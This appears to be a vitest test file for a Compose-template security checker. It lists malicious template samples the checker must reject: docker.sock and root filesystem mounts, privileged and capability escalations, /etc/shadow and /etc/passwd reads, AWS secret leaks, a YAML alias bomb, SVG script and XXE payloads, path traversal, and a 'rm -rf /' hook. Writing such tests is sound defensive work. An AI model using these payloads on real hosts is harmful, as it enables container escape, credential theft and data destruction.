import { describe, expect, it } from 'vitest';
import { templateTexts } from '../../test/support/catalogue-bench.ts';
import { checkTemplate } from './check-template.ts';

const INPUT = 'inputs:\n  - { name: NAME, type: string, label: Name, default: x }\n';

interface Case {
  readonly what: string;
  /** Lines of its service. */
  readonly service?: string;
  /** Instead of the whole Compose file. */
  readonly compose?: string;
  readonly manifest?: string;
  readonly files?: Readonly<Record<string, string>>;
}

/** A whole template: right in everything but in what the case is about. */
function report({ service = '', compose, manifest = '', files = {} }: Case) {
  const whole = compose ?? `services:\n  app:\n    image: example/app:1.0.0\n    mem_limit: 64m\n    healthcheck: { test: [CMD, check] }\n${service.split('\n').filter((row) => row !== '').map((row) => `    ${row}\n`).join('')}`;
  const texts = templateTexts('evil', `version: 1.0.0\nimages: ["example/app:1.0.0"]\n${manifest}`, whole, files);
  return checkTemplate('evil', new Map(Object.entries(texts).map(([path, text]) => [path, new TextEncoder().encode(text)])), 'test');
}

/** What wants more than an ordinary container, and the permission that says so. */
const WANTS: readonly (readonly [permission: string, service: string])[] = [
  ['privileged', 'privileged: true'],
  ['docker-socket', 'volumes: ["/var/run/docker.sock:/var/run/docker.sock"]'],
  ['docker-socket', 'volumes: ["/var/run:/host-run:ro"]'],
  ['docker-socket', 'volumes: [{ type: bind, source: /run/docker.sock, target: /s }]'],
  ['docker-socket', 'volumes: ["/run/containerd/containerd.sock:/c"]'],
  ['bind:/', 'volumes: ["/:/host"]'],
  ['bind:/etc', 'volumes: ["/etc:/host-etc"]'],
  ['bind:/', 'volumes: ["/srv/../..:/up"]'],
  ['bind:/root/.ssh', 'volumes: ["/root/.ssh:/keys"]'],
  ['bind:/var/lib/docker', 'volumes: ["/var/lib/docker:/d"]'],
  ['bind:/proc:ro', 'volumes: ["/proc:/host-proc:ro"]'],
  ['bind:/dev', 'volumes: ["/dev:/dev"]'],
  ['bind:/home:ro', 'volumes: [{ type: bind, source: /home, target: /h, read_only: true }]'],
  ['host-network', 'network_mode: host'],
  ['host-pid', 'pid: host'],
  ['host-ipc', 'ipc: host'],
  ['host-uts', 'uts: host'],
  ['host-userns', 'userns_mode: host'],
  ['host-cgroup', 'cgroup: host'],
  ['capability:SYS_ADMIN', 'cap_add: [SYS_ADMIN]'],
  ['capability:SYS_MODULE', 'cap_add: [CAP_SYS_MODULE]'],
  ['capability:ALL', 'cap_add: [all]'],
  ['capability:NET_ADMIN', 'cap_add: [NET_ADMIN]'],
  ['device:/dev/sda', 'devices: ["/dev/sda:/dev/sda"]'],
  ['device:/dev/mem', 'devices: ["/dev/mem"]'],
  ['device-rule:c *:* rwm', 'device_cgroup_rules: ["c *:* rwm"]'],
  ['security-opt:seccomp=unconfined', 'security_opt: ["seccomp=unconfined"]'],
  ['security-opt:apparmor=unconfined', 'security_opt: ["apparmor:unconfined"]'],
  ['security-opt:label=disable', 'security_opt: ["label:disable"]'],
  ['sysctl:kernel.core_pattern', 'sysctls: { kernel.core_pattern: "|/x" }'],
  ['oom-kill-disable', 'oom_kill_disable: true'],
  ['cgroup-parent', 'cgroup_parent: /'],
  ['log-driver:syslog', 'logging: { driver: syslog, options: { syslog-address: "tcp://10.0.0.1:514" } }'],
  ['build', 'build: https://evil.example/repo.git'],
  ['gpu', 'gpus: all'],
];

/** What is not right whatever is granted. */
const WRONG: readonly Case[] = [
  { what: 'a container of a fixed name', service: 'container_name: orbitr' },
  { what: 'its own origin and grants', compose: 'x-orbitr: { permissions: [privileged] }\nservices: { app: { image: "example/app:1.0.0", privileged: true } }\n' },
  { what: 'a name of its own', compose: 'name: other\nservices: { app: { image: "example/app:1.0.0" } }\n' },
  { what: 'a file outside of its folder', service: 'env_file: ["../../orbitr.yaml"]' },
  { what: 'an environment file of the machine', service: 'env_file: [/etc/shadow]' },
  { what: 'a secret that is a file of the machine', compose: 'services: { app: { image: "example/app:1.0.0", secrets: [s] } }\nsecrets: { s: { file: /etc/shadow } }\n' },
  { what: 'a config that is a file of the machine', compose: 'services: { app: { image: "example/app:1.0.0", configs: [c] } }\nconfigs: { c: { file: ../../../etc/passwd } }\n' },
  { what: 'an include', compose: 'include: [../other/compose.yaml]\nservices: { app: { image: "example/app:1.0.0" } }\n' },
  { what: 'an extension of another stack', compose: 'services: { app: { extends: { file: ../other/compose.yaml, service: x } } }\n' },
  { what: 'the data of another stack', compose: 'services: { app: { image: "example/app:1.0.0", volumes: ["d:/d"] } }\nvolumes: { d: { external: true, name: vault_data } }\n' },
  { what: 'a folder dressed up as a volume', compose: 'services: { app: { image: "example/app:1.0.0", volumes: ["d:/d"] } }\nvolumes: { d: { driver_opts: { type: none, o: bind, device: /etc } } }\n' },
  { what: 'a network of others', compose: 'services: { app: { image: "example/app:1.0.0", networks: [n] } }\nnetworks: { n: { external: true, name: bank_default } }\n' },
  { what: 'a variable of the machine', service: 'environment: { HOME_OF: "${HOME}", KEY: "${AWS_SECRET_ACCESS_KEY}" }' },
  { what: 'an alias bomb', compose: `a: &a [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 12 }, (_, at) => `b${at}: &b${at} [${Array.from({ length: 9 }, () => (at === 0 ? '*a' : `*b${at - 1}`)).join(', ')}]`).join('\n')}\nservices: { app: { image: "example/app:1.0.0" } }\n` },
  { what: 'a tag that makes objects', compose: 'services: !!js/function "x"\n' },
  { what: 'no image version', compose: 'services: { app: { image: example/app } }\n' },
  { what: 'a pattern that takes for ever', manifest: 'inputs:\n  - { name: NAME, type: string, label: Name, default: x, pattern: "(a+)+$" }\n', service: 'environment: { N: "${NAME}" }' },
  { what: 'a password that everybody knows', manifest: 'inputs:\n  - { name: NAME, type: password, label: Name, default: admin }\n', service: 'environment: { N: "${NAME}" }' },
  { what: 'a variable that steers Compose', manifest: INPUT.replace('NAME', 'COMPOSE_FILE') },
  { what: 'a variable that steers Docker', manifest: INPUT.replace('NAME', 'DOCKER_HOST') },
  { what: 'a link that is a script', manifest: 'website: "javascript:alert(1)"\n' },
  { what: 'a permission without a reason', manifest: 'permissions: [{ permission: privileged }]\n', service: 'privileged: true' },
  { what: 'an icon that is a program', files: { 'icon.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' } },
  { what: 'an icon that listens', files: { 'icon.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>' } },
  { what: 'an icon that fetches', files: { 'icon.svg': '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x"/></svg>' } },
  { what: 'an icon with entities', files: { 'icon.svg': '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>' } },
  { what: 'a file that leads upwards', files: { '../outside.txt': 'x' } },
  { what: 'a file that leads upwards from below', files: { 'config/../../outside.txt': 'x' } },
  { what: 'an absolute file', files: { '/etc/cron.d/x': 'x' } },
  { what: 'files of git', files: { 'config/.git/hooks/post-checkout': '#!/bin/sh' } },
  { what: 'a file with a backslash', files: { 'config\\..\\x': 'x' } },
  { what: 'two files that differ in case', files: { 'config/A': 'x', 'config/a': 'y' } },
  { what: 'unknown keys', manifest: 'postInstall: "rm -rf /"\n' },
  { what: 'an id that is a path', manifest: 'id: ../evil\n' },
];

describe('malicious templates', () => {
  it('are many', () => expect(WANTS.length + WRONG.length).toBeGreaterThanOrEqual(50));

  it.each(WANTS)('what takes %s is refused when it does not say so', (permission, service) => {
    const { diagnostics, requirements } = report({ what: permission, service });
    expect(requirements.map((each) => each.permission), service).toContain(permission);
    expect(diagnostics.filter(({ severity }) => severity === 'error').map(({ code }) => code)).toContain('template/permission');
  });

  it.each(WANTS)('what takes %s is shown for what it is when it says so', (permission, service) => {
    const all = report({ what: permission, service }).requirements.map((each) => each.permission);
    const { diagnostics, requirements } = report({ what: permission, service, manifest: `permissions:\n${[...new Set(all)].map((each) => `  - { permission: ${JSON.stringify(each)}, reason: Because. }`).join('\n')}\n` });
    expect(diagnostics.filter(({ severity, code }) => severity === 'error' && code === 'template/permission'), service).toEqual([]);
    expect(requirements.find((each) => each.permission === permission)).toMatchObject({ means: expect.stringMatching(/\w{3}/), subject: expect.any(String) });
  });

  it.each(WRONG)('is refused: $what', (given) => {
    expect(report(given).diagnostics.some(({ severity }) => severity === 'error')).toBe(true);
  });

  it('and the same template without malice is not', () => expect(report({ what: 'nothing' }).diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]));
});
